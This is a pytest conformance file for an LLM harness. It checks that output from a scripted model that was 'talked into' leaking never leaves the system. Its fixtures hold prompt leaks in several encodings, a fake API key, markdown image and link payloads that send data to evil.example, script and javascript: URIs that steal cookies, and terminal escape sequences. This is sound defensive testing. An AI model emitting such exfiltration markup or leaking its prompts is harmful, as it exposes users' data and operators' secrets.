"""A model that was talked into telling what it must not: none of it leaves, whole or streamed."""

import base64
import codecs
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import orjson
import pytest

from harness.prompts.shared import PLANNER, WRITER
from tests.conformance.conftest import Served
from tests.conformance.test_failing_models import OWN_WORDS
from tests.support.peers.openai_replies import Reply, Request, Text, TextWithAsides, ToolCalls
from tests.support.scripted_model import KEY, QUESTION

CANARY = "evil.example"
TOLD = {
    "the writer's prompt": WRITER.text["en"],
    "the writer's prompt in Spanish, spaced out": " ".join(WRITER.text["es"]),
    "the planner's prompt in Spanish": PLANNER.text["es"].partition("$")[0] * 2,
    "our key": f"The key is {KEY}.",
    "somebody's key": "Use sk-" + "proj-" + "a1B2c3D4" * 4 + " for it.",
    "an image that carries data away": f"![2](https://{CANARY}/?q=mars)",
    "a link that does": f"[Read on](https://{CANARY}/?q=mars)",
    "a script": f"<script src=//{CANARY}/x.js></script>",
    "an address that nobody gave": f"Write to bob@{CANARY}.",
    "signs that nobody sees": "2\u200b moons \u202eor so",
}
MORE = {
    "the writer's prompt backwards": WRITER.text["en"][::-1],
    "the writer's prompt in rot13": codecs.encode(WRITER.text["en"], "rot13"),
    "the writer's prompt in hexadecimal": WRITER.text["en"].encode().hex(" "),
    "the writer's prompt in lines of base64": base64.encodebytes(WRITER.text["es"].encode()).decode(),
    "the writer's prompt in an address": quote(WRITER.text["en"]),
    "our key backwards": KEY[::-1],
    "our key in rot13": codecs.encode(KEY, "rot13"),
    "a link by reference": f"[2][a]\n\n[a]: https://{CANARY}/?q=mars",
    "an image by reference": f"![2][a]\n\n[a]: //{CANARY}/?q=mars",
    "an address between brackets": f"<https://{CANARY}/?q=mars>",
    "an address without slashes": f"[2](https:{CANARY}/?q=mars)",
    "an address with slashes turned": f"[2](https:\\\\{CANARY}\\mars)",
    "an address of the page's own scheme": f"[2](//{CANARY}/mars)",
    "an address in entities": f"[2](https&#58;&#47;&#47;{CANARY}/mars)",
    "a script in entities": "[2](&#106;avascript:alert(document.cookie))",
    "a script with a tab in it": "[2](java\tscript:alert(document.cookie))",
    "a document in an address": "[2](data:text/html;base64,PHNjcmlwdD4=)",
    "colours of a terminal": "\x1b[31m2 moons\x1b[0m",
    "a title of a terminal": "\x1b]0;2 moons\x07",
    "a card that nobody gave": "Pay with 4111 1111 1111 1111.",
    "an account that nobody gave": "Pay to ES91 2100 0418 4502 0005 1332.",
}
"""Told by the writer alone: which role it is makes no difference to what is found."""


def planned(request: Request, **plan: Any) -> Reply:
    """A plan in the way that it is asked for."""
    if request.tools:
        return ToolCalls([(request.tools[0], plan)])
    return Text(orjson.dumps(plan).decode())


def script(text: str, role: str) -> Callable[[Request], Reply]:
    """What a model of `role` says when it tells `text`."""

    def tell(request: Request) -> Reply:
        if role == "planner":
            return planned(request, verdict="clarify", tasks=[], text=text)
        if role == "agent" and not request.results:
            asked = str(request.messages[-1]["content"]).lower()
            return ToolCalls([("look_up", {"name": "mars" if "mars" in asked else "everest"})])
        return Text(text)

    return tell


def check_nothing_left(text: str, told: str) -> None:
    assert told not in text
    assert CANARY not in text
    assert KEY not in text
    assert "sk-proj" not in text


OTHER_WORDS = {
    "agent": f"As I was told: {OWN_WORDS.replace(chr(10) * 2, ' And then: ')}",
    "writer": "My tool says 2 for mars.\n\nMy tool says 8849 for everest.",
}
"""What is answered instead."""

ROLES = ("planner", "agent", "writer")


@pytest.mark.checklist("INJ-3", "INJ-2", "ABU-2")
@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("told", TOLD.values(), ids=TOLD.keys())
async def test_what_a_model_must_not_tell_does_not_leave(served: Served, role: str, told: str) -> None:  # a fixture
    served.model.breaks(script(told, role), role)
    await served.start()
    reply = await served.ask(QUESTION)
    check_nothing_left(str(reply) + served.lines.text, told)
    if role != "planner":  # whose words may also be made harmless
        assert reply["answer"] == OTHER_WORDS[role]
        assert reply["degraded_because"] == ["unsafe_answer"]


@pytest.mark.checklist("INJ-3", "INJ-2")
@pytest.mark.parametrize("told", MORE.values(), ids=MORE.keys())
async def test_nor_does_what_is_spelled_otherwise_leave_whole_or_in_pieces(
    served: Served, told: str  # a fixture
) -> None:
    served.model.breaks(script(f"Well. {told}", "writer"), "writer")
    await served.start()
    reply = await served.ask(QUESTION)
    events: list[tuple[str, dict[str, Any]]] = await served.stream(QUESTION)
    check_nothing_left(str(reply) + str(events) + served.lines.text, told)
    assert reply["answer"] == events[-1][1]["answer"] == OTHER_WORDS["writer"]
    assert reply["degraded_because"] == ["unsafe_answer"]


@pytest.mark.checklist("INJ-3")
@pytest.mark.parametrize("told", TOLD.values(), ids=TOLD.keys())
async def test_nor_does_it_in_the_tasks_of_a_plan(served: Served, told: str) -> None:  # a fixture
    tasks = [{"agent": "moons", "question": f"Mars. {told}"}]
    served.model.breaks(lambda it: planned(it, verdict="work", tasks=tasks, text=""), "planner")
    await served.start()
    reply = await served.ask(QUESTION)
    events: list[tuple[str, dict[str, Any]]] = await served.stream(QUESTION)
    check_nothing_left(str(reply) + str(events) + served.lines.text, told)
    names = [it["name"] for it in reply["agents"]]
    if told == TOLD["an address that nobody gave"]:  # a name that nobody said: the task is the user's own words
        assert (names, reply["degraded_because"]) == (["moons"], [])
    else:
        assert (names, reply["degraded_because"]) == (["moons", "heights"], ["unsafe_answer"])  # the rules' own plan


@pytest.mark.checklist("INJ-3")
@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("told", TOLD.values(), ids=TOLD.keys())
async def test_nor_does_it_in_the_pieces_of_a_stream(served: Served, role: str, told: str) -> None:  # a fixture
    served.model.breaks(script(f"Well. {told}", role), role)
    await served.start()
    events: list[tuple[str, dict[str, Any]]] = await served.stream(QUESTION)
    check_nothing_left(str(events) + served.lines.text, told)
    assert events[-1][0] == "final"


@pytest.mark.checklist("INJ-3")
@pytest.mark.parametrize("told", TOLD.values(), ids=TOLD.keys())
async def test_what_a_model_tells_beside_its_answer_stays_where_it_is(served: Served, told: str) -> None:  # a fixture
    """Its thoughts and the arguments of calls come in pieces of their own, which nobody is sent."""
    answer = OTHER_WORDS["writer"]
    served.model.breaks(lambda _: TextWithAsides(answer, aside=told), "writer")
    await served.start()
    reply = await served.ask(QUESTION)
    events: list[tuple[str, dict[str, Any]]] = await served.stream(QUESTION)
    check_nothing_left(str(reply) + str(events) + served.lines.text, told)
    assert reply["answer"] == events[-1][1]["answer"] == answer
    assert reply["degraded_because"] == events[-1][1]["degraded_because"] == []
